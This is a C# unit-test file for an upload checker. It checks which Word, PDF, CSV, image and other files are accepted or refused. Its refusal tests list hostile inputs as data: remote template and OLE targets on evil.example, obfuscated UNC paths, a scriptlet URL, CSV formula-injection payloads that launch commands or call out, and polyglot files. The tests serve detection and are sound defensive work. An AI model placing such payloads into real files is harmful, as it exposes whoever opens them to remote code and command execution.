using System.Text;
using FollowUp.Evidence;
using static FollowUp.Tests.Evidence.Everyday;
using static FollowUp.Tests.Evidence.Files;

namespace FollowUp.Tests.Evidence;

/// <summary>What honest people send, and what looks like it.</summary>
public sealed class EverydayFilesTests
{
    [Theory]
    [InlineData(@"file:///C:\Users\ann\AppData\Roaming\Microsoft\Templates\Letter%20(blue).dotx")]
    [InlineData(@"file:///H:\Templates\Report.dotm")]
    [InlineData("file:///C:/Program%20Files/Templates/Report.dotx")]
    [InlineData("file:/C:/Templates/Report.dotx")]
    [InlineData("file://localhost/Users/ann/Templates/Report.dotx")]
    [InlineData("file:///Users/ann/Library/Templates/Report.dotx")]
    [InlineData("file:////Users/ann/Library/Group%20Containers/Templates/Report.dotx")]
    [InlineData(@"C:\Templates\Report.dotx")]
    [InlineData("Report.dotx")]
    [InlineData("")]
    public void A_template_on_the_writers_own_computer_does_no_harm(string template) => Taken("report.docx", FromTemplate(template));

    [Theory]
    [InlineData("https://evil.example/t.dotm")]
    [InlineData(" HTTP://evil.example/t.dotm")]
    [InlineData("ftp://evil.example/t.dotm")]
    [InlineData("mhtml:https://evil.example/t!x-usc:https://evil.example/t")]
    [InlineData(@"\\evil.example\share\t.dotm")]
    [InlineData(@"\\Users\share\t.dotm")]
    [InlineData("//evil.example/share/t.dotm")]
    [InlineData(@"/\evil.example\share\t.dotm")]
    [InlineData("%5C%5Cevil.example/share/t.dotm")]
    [InlineData(@"file:///\\evil.example\share\t.dotm")]
    [InlineData("file://evil.example/share/t.dotm")]
    [InlineData("file://///evil.example/share/t.dotm")]
    [InlineData("file:////evil.example/share/t.dotm")]
    [InlineData("file://localhost//evil.example/share/t.dotm")]
    [InlineData(@"file:\\evil.example@SSL\share\t.dotm")]
    [InlineData(@"FILE:///\\evil.example\share\t.dotm")]
    [InlineData(@"file:///\\?\UNC\evil.example\share\t.dotm")]
    public void A_template_on_a_server_would_be_fetched(string template) => Refused("report.docx", FromTemplate(template), "its template. Save it as a PDF and upload that");

    [Theory]
    [InlineData("image", "cid:image001.png@01D2F0A1.5C3B2E10")]
    [InlineData("image", "NULL")]
    [InlineData("image", @"file:///C:\Users\ann\AppData\Local\Temp\msohtmlclip1\01\clip_image001.png")]
    [InlineData("oleObject", @"file:///C:\Users\ann\Documents\figures.xlsx!Sheet1!R1C1:R9C4")]
    [InlineData("hyperlink", "https://www.justiceinspectorates.gov.uk/")]
    [InlineData("hyperlink", @"file:///\\server\share\report.docx")]
    [InlineData("video", "https://video.example/embed/1")]
    public void A_part_on_the_writers_own_computer_or_behind_a_click_does_no_harm(string relation, string target) => Taken("report.docx", OfWord("header1", relation, target));

    [Theory]
    [InlineData("image", "http://evil.example/pixel.png")]
    [InlineData("image", @"file:///\\evil.example\share\pixel.png")]
    [InlineData("oleObject", "https://evil.example/exploit.html")]
    [InlineData("oleObject", "script:https://evil.example/x.sct")]
    [InlineData("frame", "https://evil.example/")]
    [InlineData("subDocument", @"\\evil.example\share\part.docx")]
    [InlineData("aFChunk", "https://evil.example/part.html")]
    [InlineData("video", @"file:///\\evil.example\share\film.mp4")]
    public void A_part_on_a_server_would_be_fetched(string relation, string target) => Refused("report.docx", OfWord("header1", relation, target), "somewhere else, such as a picture");

    [Fact]
    public void Documents_of_Google_and_LibreOffice_are_taken()
    {
        Taken("Copy of report.docx", OfGoogleDocs);
        Taken("talk.pptx", OfLibreOffice);
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public void A_workbook_in_the_wide_form_of_a_zip_is_taken_and_hides_nothing(bool isPlainToo)
    {
        var workbook = OfPoi(isPlainToo);
        Taken("export.xlsx", workbook);

        Refused("export.xlsx", [.. workbook, .. "more"u8], "something else in it");
        Refused("export.xlsx", OfPoi(isPlainToo, lead: 1), "something else in it");
        Refused("report.pdf", [.. Pdf(), .. workbook, .. "\n%%EOF"u8], "something else in it");
        Refused("photo.jpg", [.. Jpeg, .. workbook], "something else in it");
        var end = workbook.AsSpan().LastIndexOf("PK\x05\x06"u8);
        var torn = (byte[])workbook.Clone();
        torn[end + 16] ^= 1;
        Refused("export.xlsx", torn, "");
    }

    [Fact]
    public void A_PDF_that_is_protected_cannot_be_checked()
    {
        Refused("report.pdf", Encrypted(), "Save it as a PDF without protection and upload that");
        Refused("report.pdf", Encrypted("/Encr#79pt 3 0 R"), "is protected by a password");
        Refused("report.pdf", Encrypted("/Encrypt<</Filter/Standard>>"), "is protected by a password");
        Refused("report.pdf", PdfWith("/Type/XRef/Encrypt 3 0 R/Filter/FlateDecode/DecodeParms<</Predictor 12>>", Deflated("x")), "is protected by a password");
        Refused("report.pdf", Encrypted(root: "\n4 0 obj\n<</Type/ObjStm/Filter/FlateDecode>>\nstream\nencrypted\nendstream\nendobj"), "is protected by a password");
        Taken("report.pdf", Pdf("3 0 obj\n<</URI(https://example.org/Encrypt/3/how)/EncryptMetadata true>>\nendobj"));
    }

    [Fact]
    public void Streams_of_a_PDF_may_hold_anything()
    {
        Taken("report.pdf", PdfWith("", Text("(about /JavaScript and > > stream) Tj")));
        Taken("report.pdf", PdfWith("/Type/ObjStm", Text("1 0 <</Type/Font>>")));
        Taken("report.pdf", PdfWith("/Type/ObjStm/Filter[/FlateDecode]", Deflated(" 12 0\n13 8 <</Type/Font>> <<>>")));
        Taken("report.pdf", PdfWith("/Filter/DCTDecode", Jpeg));
    }

    [Theory]
    [InlineData("- Recruit officer(s)")]
    [InlineData("- Done!")]
    [InlineData("-Done!")]
    [InlineData("-Call(s) made")]
    [InlineData("- yes | no, done! All of it")]
    [InlineData("\"- First, recruit officer(s)\n- then train them!\"")]
    [InlineData("-5.3%")]
    [InlineData("+44 (0)20 7946 0000")]
    [InlineData("-(12)")]
    [InlineData("- Image (see below)")]
    public void A_cell_with_an_item_of_a_list_is_no_formula(string cell) => Taken("plan.csv", Text($"Action,By when\r\n{cell},May\r\n"));

    [Theory]
    [InlineData("-2+3+cmd|' /C calc'!A0")]
    [InlineData("- 2+cmd|' /C calc'!A0")]
    [InlineData("\"-2+SUM(1,2)+cmd|' /C calc'!A0\"")]
    [InlineData("\"-2+\ncmd|' /C calc'!A0\"")]
    [InlineData("+webservice(\"https://evil.example\")")]
    [InlineData("- HYPERLINK(\"https://evil.example\")")]
    [InlineData(@"+'\\evil.example\share\[b.xlsx]S'!A1")]
    [InlineData("x, \"quoted;=cmd|'/C calc'!A0")]
    [InlineData("=1+1")]
    [InlineData("@SUM(A1)")]
    public void A_cell_that_reaches_out_is_a_formula(string cell)
    {
        Refused("plan.csv", Text($"Action;By when\r\n{cell};May\r\n"), "run as formulas");
        Refused("plan.csv", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes($"Action\tBy when\r\n{cell}\tMay\r\n")], "run as formulas");
    }

    [Fact]
    public void A_CSV_of_two_bytes_a_letter_is_taken()
    {
        Taken("figures.csv", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("month\tchange\r\nMai – “two”\t-5\r\n")]);
        Taken("figures.csv", [0xFE, 0xFF, .. Encoding.BigEndianUnicode.GetBytes("month\tchange\r\nMai\t-5\r\n")]);
    }

    [Theory]
    [InlineData("photo.heic", "Save the image as PNG or JPEG")]
    [InlineData("photo.HEIF", "Save the image as PNG or JPEG")]
    [InlineData("report.odt", "Save the file as a Word document (docx) or as PDF")]
    [InlineData("report.dotx", "Save the file as a Word document (docx) or as PDF")]
    [InlineData("RE Our plan.msg", "Open the email, save it as a PDF and upload that")]
    [InlineData("RE Our plan.eml", "Open the email, save it as a PDF and upload that")]
    [InlineData("report.pages", "export it as a PDF and upload that")]
    [InlineData("talk.ppsx", "Save the file as a PowerPoint presentation (pptx) or as PDF")]
    [InlineData("report.gdoc", "download the document as a PDF and upload that")]
    [InlineData("poster.pub", "Save it as a PDF and upload that")]
    public void A_file_of_another_kind_is_refused_with_what_to_do(string name, string advice) => Refused(name, [0x00, 0x00, 0x00, 0x18, .. "ftypheic"u8], advice);

    [Fact]
    public void A_JPEG_may_have_the_ending_that_Windows_gives_it()
    {
        Taken("photo.jfif", Jpeg);
        Refused("photo.jfif", Png, "it is not a JPEG image. Open it, save it as JPEG");
        Assert.Contains(".jfif", FileKinds.Accept.Split(','));
    }

    [Theory]
    [InlineData("re jo@justice.com.pdf")]
    [InlineData("www.example.com.pdf")]
    [InlineData("Action plan.html.pdf")]
    [InlineData("Tracker.xlsm.pdf")]
    [InlineData("Phase.One.pdf")]
    [InlineData("v1.2.3 final.pdf")]
    public void A_name_may_have_points_in_it(string name) => Taken(name, Pdf());

    [Theory]
    [InlineData("report.exe.pdf")]
    [InlineData("jo@justice.com.scr.pdf")]
    [InlineData("report.Js .pdf")]
    public void A_name_may_not_have_a_programs_ending_in_it(string name) => Refused(name, Pdf(), "two endings");

    private static void Taken(string name, byte[] content)
    {
        var outcome = FileCheck.Check(name, content, content.Length);
        Assert.True(outcome.Refusal is null, outcome.Refusal?.Problems[0].Message);
    }

    private static void Refused(string name, byte[] content, string reason) =>
        Assert.Contains(reason, Assert.Single(FileCheck.Check(name, content, content.Length).Refusal?.Problems ?? []).Message, StringComparison.Ordinal);
}
